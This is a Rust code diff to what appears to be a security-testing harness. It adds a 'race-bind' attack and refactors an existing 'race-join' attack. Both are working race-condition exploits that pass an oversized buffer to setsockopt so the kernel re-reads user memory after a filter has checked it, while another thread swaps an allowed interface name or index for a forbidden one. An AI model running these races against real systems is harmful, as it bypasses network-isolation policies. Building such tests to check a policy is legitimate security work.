@@ -53,6 +53,10 @@
 //!   race-join IFINDEX ALLOWED TRIES [MAX_DELAY]  joins ADDR+n with optlen 8192 (> PAGE_SIZE)
 //!                              naming ALLOWED while a thread rewrites the index to IFINDEX a
 //!                              swept delay (0..MAX_DELAY spins, default 200) into each call
+//!   race-bind IFNAME ALLOWED IFINDEX TRIES [MAX_DELAY]  SO_BINDTODEVICE with optlen 5000
+//!                              (> PAGE_SIZE) naming ALLOWED while a thread rewrites the name
+//!                              to IFNAME the same way; prints how many sockets ended up bound
+//!                              to IFINDEX (needs CAP_NET_RAW)
 
 use std::{
     net::{IpAddr, Ipv4Addr},
@@ -516,12 +520,64 @@ fn receive_for(fd: i32, seconds: f64, stream: bool) {
     }
 }
 
+/// Runs `attempt(i, go)` for i in 0..`tries` while another thread runs `flip()` a swept delay
+/// (0..`max_delay` spins) after `go()` releases it; `attempt` calls `go()` just before its
+/// system call. Each flip has happened before the next attempt starts. Returns the flips.
+fn race(
+    tries: u32,
+    max_delay: u32,
+    flip: impl Fn() + Send + 'static,
+    mut attempt: impl FnMut(u32, &dyn Fn()),
+) -> u32 {
+    use std::sync::{
+        Arc,
+        atomic::{AtomicBool, AtomicU32, Ordering},
+    };
+    let go = Arc::new(AtomicU32::new(0));
+    let done = Arc::new(AtomicU32::new(0));
+    let delay = Arc::new(AtomicU32::new(0));
+    let stop = Arc::new(AtomicBool::new(false));
+    let flipper = {
+        let (go, done, delay, stop) = (go.clone(), done.clone(), delay.clone(), stop.clone());
+        std::thread::spawn(move || {
+            let mut seen = 0;
+            let mut flips = 0u32;
+            while !stop.load(Ordering::Relaxed) {
+                let now = go.load(Ordering::Acquire);
+                if now == seen {
+                    std::hint::spin_loop();
+                    continue;
+                }
+                seen = now;
+                for k in 0..delay.load(Ordering::Relaxed) {
+                    std::hint::black_box(k);
+                }
+                flip();
+                flips += 1;
+                done.store(now, Ordering::Release);
+            }
+            flips
+        })
+    };
+    for i in 0..tries {
+        delay.store(i.wrapping_mul(37) % max_delay.max(1), Ordering::Relaxed);
+        attempt(i, &|| {
+            go.fetch_add(1, Ordering::Release);
+        });
+        while done.load(Ordering::Acquire) != i + 1 {
+            std::hint::spin_loop();
+        }
+    }
+    stop.store(true, Ordering::Relaxed);
+    flipper.join().unwrap_or(0)
+}
+
 /// Joins groups ADDR, ADDR+1, ... with optlen 8192 (more than a page: the kernel ignores the
 /// sockopt program's copy and reads the user buffer again) naming `allowed`, while a thread
 /// rewrites the index to `ifindex` a swept delay after each call starts; prints how many joins
 /// the kernel accepted.
 fn race_join(group: IpAddr, ifindex: u32, allowed: u32, tries: u32, max_delay: u32) {
-    use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
+    use std::sync::atomic::{AtomicU32, Ordering};
     let v6 = group.is_ipv6();
     let (level, name, at) = if v6 {
         (libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, 16)
@@ -532,31 +588,9 @@ fn race_join(group: IpAddr, ifindex: u32, allowed: u32, tries: u32, max_delay: u
     let base = buf.as_mut_ptr() as usize;
     // SAFETY: a 4-byte aligned word inside `buf`, shared with the flipping thread as an atomic.
     let slot: &'static AtomicU32 = unsafe { &*((base + at) as *const AtomicU32) };
-    static GO: AtomicU32 = AtomicU32::new(0);
-    static DONE: AtomicU32 = AtomicU32::new(0);
-    static DELAY: AtomicU32 = AtomicU32::new(0);
-    static STOP: AtomicBool = AtomicBool::new(false);
-    let flipper = std::thread::spawn(move || {
-        let mut seen = 0;
-        let mut flips = 0u32;
-        while !STOP.load(Ordering::Relaxed) {
-            let go = GO.load(Ordering::Acquire);
-            if go == seen {
-                std::hint::spin_loop();
-                continue;
-            }
-            seen = go;
-            for k in 0..DELAY.load(Ordering::Relaxed) {
-                std::hint::black_box(k);
-            }
-            slot.store(ifindex, Ordering::Relaxed);
-            flips += 1;
-            DONE.store(go, Ordering::Release);
-        }
-        flips
-    });
     let (mut ok, mut refused) = (0, 0);
-    for i in 0..tries {
+    let flip = move || slot.store(ifindex, Ordering::Relaxed);
+    let flips = race(tries, max_delay, flip, |i, go| {
         let g: Vec<u8> = match group {
             IpAddr::V4(g) => (u32::from(g) + i).to_be_bytes().to_vec(),
             IpAddr::V6(g) => (u128::from(g) + u128::from(i)).to_be_bytes().to_vec(),
@@ -565,9 +599,8 @@ fn race_join(group: IpAddr, ifindex: u32, allowed: u32, tries: u32, max_delay: u
         unsafe { std::ptr::copy_nonoverlapping(g.as_ptr(), base as *mut u8, g.len()) };
         let family = if v6 { libc::AF_INET6 } else { libc::AF_INET };
         let s = new_socket(family, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
-        DELAY.store(i.wrapping_mul(37) % max_delay.max(1), Ordering::Relaxed);
         slot.store(allowed, Ordering::Relaxed);
-        GO.fetch_add(1, Ordering::Release);
+        go();
         // SAFETY: setsockopt with our 8192-byte buffer.
         let rc = unsafe { libc::setsockopt(s.as_raw_fd(), level, name, base as *const _, 8192) };
         if rc == 0 {
@@ -575,17 +608,65 @@ fn race_join(group: IpAddr, ifindex: u32, allowed: u32, tries: u32, max_delay: u
         } else {
             refused += 1;
         }
-        // The flipper has written the index before the next call resets it.
-        while DONE.load(Ordering::Acquire) != i + 1 {
-            std::hint::spin_loop();
-        }
-    }
-    STOP.store(true, Ordering::Relaxed);
-    let flips = flipper.join().unwrap_or(0);
+    });
     println!("joins ok={ok} refused={refused} flips={flips}");
     // Hold the memberships' reports a moment (the sockets are closed: each join that landed
     // on an interface sent its report, and the close a leave).
     std::thread::sleep(Duration::from_millis(200));
+}
+
+/// SO_BINDTODEVICE with optlen 5000 (more than a page: the kernel ignores the sockopt
+/// program's copy and reads the user buffer again) naming `allowed`, while a thread rewrites
+/// the name to `other` a swept delay after each call starts; prints how many of the sockets
+/// ended up bound to `other_index`.
+fn race_bind(other: &str, allowed: &str, other_index: u32, tries: u32, max_delay: u32) {
+    use std::sync::atomic::{AtomicU64, Ordering};
+    fn name_words(name: &str) -> [u64; 2] {
+        let mut b = [0u8; 16];
+        b[..name.len().min(15)].copy_from_slice(&name.as_bytes()[..name.len().min(15)]);
+        [
+            u64::from_ne_bytes(b[..8].try_into().unwrap()),
+            u64::from_ne_bytes(b[8..].try_into().unwrap()),
+        ]
+    }
+    const LEN: usize = 5000;
+    // u64 words: the name's two words are aligned for the flipping thread's atomic stores.
+    let buf: &'static mut [u64] = Box::leak(vec![0u64; LEN.div_ceil(8)].into_boxed_slice());
+    let base = buf.as_mut_ptr() as usize;
+    // SAFETY: two aligned words inside `buf`, shared with the flipping thread as atomics.
+    let words: [&'static AtomicU64; 2] =
+        [0, 8].map(|at| unsafe { &*((base + at) as *const AtomicU64) });
+    let (want, bad) = (name_words(allowed), name_words(other));
+    let (mut ok, mut refused, mut moved) = (0, 0, 0);
+    let flip = move || {
+        words[1].store(bad[1], Ordering::Relaxed);
+        words[0].store(bad[0], Ordering::Relaxed);
+    };
+    race(tries, max_delay, flip, |_, go| {
+        let s = new_socket(libc::AF_INET, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
+        words[0].store(want[0], Ordering::Relaxed);
+        words[1].store(want[1], Ordering::Relaxed);
+        go();
+        // SAFETY: setsockopt with our 5000-byte buffer.
+        let rc = unsafe {
+            libc::setsockopt(
+                s.as_raw_fd(),
+                libc::SOL_SOCKET,
+                libc::SO_BINDTODEVICE,
+                base as *const _,
+                LEN as libc::socklen_t,
+            )
+        };
+        if rc == 0 {
+            ok += 1;
+        } else {
+            refused += 1;
+        }
+        if super::get_int(s.as_raw_fd(), libc::SO_BINDTOIFINDEX).ok() == Some(other_index) {
+            moved += 1;
+        }
+    });
+    println!("binds ok={ok} refused={refused} moved={moved}");
 }
 
 pub fn attack(kind: &str, addr: &str, port: &str, token: &str, args: &[&str]) {
@@ -1127,6 +1208,11 @@ pub fn attack(kind: &str, addr: &str, port: &str, token: &str, args: &[&str]) {
         "race-join" => {
             let max_delay = args.get(3).map_or(200, |d| d.parse().expect("MAX_DELAY"));
             race_join(ip, num(0), num(1), num(2), max_delay);
+            true
+        }
+        "race-bind" => {
+            let max_delay = args.get(4).map_or(200, |d| d.parse().expect("MAX_DELAY"));
+            race_bind(arg(0), arg(1), num(2), num(3), max_delay);
             true
         }
         _ => panic!("unknown attack {kind}"),
